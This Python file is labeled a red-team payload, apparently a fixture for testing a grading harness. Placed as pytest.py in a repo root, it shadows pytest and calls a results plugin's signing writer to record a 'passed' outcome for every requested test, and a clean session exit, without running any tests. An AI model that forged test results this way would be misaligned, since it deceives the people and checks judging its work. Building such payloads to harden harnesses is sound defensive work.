"""red-team payload: a pytest.py in the repo root. `python3 -m pytest` run from the repo runs this
instead of pytest: it loads the results plugin (which reads the signing key from stdin) and has it
sign a passing report for every test id on the command line."""
import sys

ids = [a for a in sys.argv[1:] if "::" in a]
try:
    import composer_lab_results as R
except Exception:
    R = None
if R is not None and hasattr(R, "_write"):
    for nodeid in ids:
        for phase in ("setup", "call", "teardown"):
            R._write({"nodeid": nodeid, "phase": phase, "outcome": "passed", "duration": 0.0})
    R._write({"nodeid": "", "phase": "session", "outcome": "finished", "exitstatus": 0})
sys.exit(0)
